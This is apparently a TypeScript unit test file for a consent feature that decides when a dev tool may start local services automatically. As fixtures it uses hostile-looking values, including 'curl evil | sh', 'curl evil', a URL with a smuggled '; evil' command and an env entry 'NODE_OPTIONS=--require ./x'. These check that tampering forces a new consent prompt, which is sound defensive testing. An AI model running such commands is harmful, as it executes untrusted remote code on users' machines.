import assert from 'node:assert/strict';
import { Consent } from '../../../../src/app/consent/consent';
import type { Agreement } from '../../../../src/app/consent/consent';
import type { Preflight, StepPreflight } from '../../../../src/app/ports';
import type { ServiceSpec } from '../../../../src/core/model/service';
import { serviceSpec } from '../../../support/fakes/specs';

/** Env files by name; the launch holds what they contain. */
class Workspace {
  readonly kept = new Map<string, string>();
  readonly files = new Map([['.env', 'A=1']]);
  specs: readonly ServiceSpec[] = [
    serviceSpec('web', { autoStart: true, dependsOn: [{ id: 'db', condition: 'healthy' }] }),
    serviceSpec('db', { port: 5432, envFiles: ['.env'] }),
  ];

  readonly preflight: Preflight & StepPreflight = {
    prepare: ({ command, cwd, envFiles }) =>
      Promise.resolve({
        ok: true,
        launch: { command, cwd, env: Object.fromEntries(envFiles.map((file) => [file, this.files.get(file) ?? ''])) },
      }),
    prepareStep: (_spec, { name, command }) =>
      Promise.resolve({ ok: true, step: { name, launch: { command, cwd: '', env: {} } } }),
  };

  readonly consent = new Consent({
    hash: (text) => `#${text}`,
    memory: {
      read: (agreement, identity) => this.kept.get(`${agreement} ${identity}`),
      write: (agreement, identity, fingerprint) => void this.kept.set(`${agreement} ${identity}`, fingerprint),
    },
    preflight: this.preflight,
  });

  change(id: string, changes: Partial<ServiceSpec>): void {
    this.specs = this.specs.map((spec) => (spec.id === id ? { ...spec, ...changes } : spec));
  }

  get = (id: string): ServiceSpec => this.specs.find((spec) => spec.id === id) ?? assert.fail(id);

  pending = () => this.consent.pending(['web'], (id) => this.specs.find((spec) => spec.id === id));

  async agree(agreement: Agreement): Promise<void> {
    const pending = await this.pending();
    assert.ok(pending.kind === 'ask');
    this.consent.answer(agreement, pending.plans);
  }
}

describe('consent to automatic starts', () => {
  it('asks once for the whole closure, and not again while nothing changes', async () => {
    const workspace = new Workspace();
    const first = await workspace.pending();
    assert.ok(first.kind === 'ask' && !first.isChanged);
    assert.deepEqual(
      first.plans.map(({ spec }) => spec.id),
      ['db', 'web'],
    );
    await workspace.agree('automatic');
    assert.equal((await workspace.pending()).kind, 'agreed');
  });

  it('asks again for another address of a service that a command refers to', async () => {
    const workspace = new Workspace();
    const refersTo = (address: string): void => {
      const written = serviceSpec('db', { command: 'wait ${url:api}', fixedAddresses: { 'url:api': address } });
      workspace.change('db', { ...written, command: `wait ${address}`, asWritten: written });
    };
    refersTo('http://localhost:8000');
    await workspace.agree('automatic');
    refersTo('http://localhost:8000');
    assert.equal((await workspace.pending()).kind, 'agreed');
    refersTo('http://localhost:8000/; evil');
    assert.equal((await workspace.pending()).kind, 'ask');
  });

  it('asks again for another choice of ports, and not for another port of it', async () => {
    const workspace = new Workspace();
    const choice = (port: number, command = 'serve ${port}', to = 8009): void => {
      const written = serviceSpec('db', { command, portChoice: { from: 8000, to } });
      const { port: _none, ...asWritten } = written;
      workspace.change('db', { ...written, command: command.replace('${port}', String(port)), port, asWritten });
    };
    choice(8000);
    await workspace.agree('automatic');
    choice(8001);
    assert.equal((await workspace.pending()).kind, 'agreed');
    assert.equal(await workspace.consent.isAgreed(workspace.get('db')), true);
    choice(8001, 'serve ${port}', 8010);
    assert.equal((await workspace.pending()).kind, 'ask');
    choice(8001, 'evil ${port}');
    assert.equal((await workspace.pending()).kind, 'ask');
  });

  for (const [what, change] of Object.entries<(workspace: Workspace) => void>({
    'the command of a dependency': (workspace) => workspace.change('db', { command: 'curl evil | sh' }),
    'the setup of a dependency': (workspace) => workspace.change('db', { setup: [{ name: 'x', command: 'curl evil' }] }),
    'the contents of an env file of a dependency': (workspace) => void workspace.files.set('.env', 'NODE_OPTIONS=--require ./x'),
    'a new dependency': (workspace) => {
      workspace.specs = [...workspace.specs, serviceSpec('new', { command: 'curl evil' })];
      workspace.change('db', { dependsOn: [{ id: 'new', condition: 'started' }] });
    },
    'the right to end processes': (workspace) => workspace.change('web', { onPortConflict: 'stop' }),
  })) {
    it(`asks again when this has changed: ${what}`, async () => {
      const workspace = new Workspace();
      await workspace.agree('automatic');
      change(workspace);
      const pending = await workspace.pending();
      assert.ok(pending.kind === 'ask' && pending.isChanged);
    });
  }

  it('does not take a start by the user for consent to start with the workspace', async () => {
    const workspace = new Workspace();
    for (const spec of workspace.specs) await workspace.consent.record('started', spec);
    assert.equal((await workspace.pending()).kind, 'ask');
  });

  it('does not ask again after a refusal, until something changes', async () => {
    const workspace = new Workspace();
    await workspace.agree('refused');
    assert.equal((await workspace.pending()).kind, 'refused');
    workspace.change('db', { command: 'other' });
    assert.equal((await workspace.pending()).kind, 'ask');
  });

  it('agrees to what was shown, not to what the file says by the time of the answer', async () => {
    const workspace = new Workspace();
    const pending = await workspace.pending();
    workspace.change('db', { command: 'curl evil | sh' });
    assert.ok(pending.kind === 'ask');
    workspace.consent.answer('automatic', pending.plans);
    assert.equal((await workspace.pending()).kind, 'ask');
  });
});

describe('consent to restarts', () => {
  it('lets a restart run what the user started, and nothing else', async () => {
    const workspace = new Workspace();
    assert.equal(await workspace.consent.isAgreed(workspace.get('db')), false);
    await workspace.consent.record('started', workspace.get('db'));
    assert.equal(await workspace.consent.isAgreed(workspace.get('db')), true);
    workspace.change('db', { command: 'curl evil | sh' });
    assert.equal(await workspace.consent.isAgreed(workspace.get('db')), false);
  });

  it('is about the launch that was prepared, whatever the files say a moment later', async () => {
    const workspace = new Workspace();
    const db = workspace.get('db');
    await workspace.consent.record('started', db);
    workspace.files.set('.env', 'NODE_OPTIONS=--require ./x');
    const prepared = await workspace.preflight.prepare(db);
    workspace.files.set('.env', 'A=1');
    assert.equal(await workspace.consent.isAgreed(db, prepared), false);
    await workspace.consent.record('started', db, prepared);
    assert.equal(await workspace.consent.isAgreed(db), false);
  });

  it('holds when the id changes, because folder and key stay the same', async () => {
    const workspace = new Workspace();
    await workspace.consent.record('started', workspace.get('db'));
    assert.equal(await workspace.consent.isAgreed({ ...workspace.get('db'), id: 'shop/db' }), true);
    assert.equal(await workspace.consent.isAgreed({ ...workspace.get('db'), folder: '/blog' }), false);
  });
});
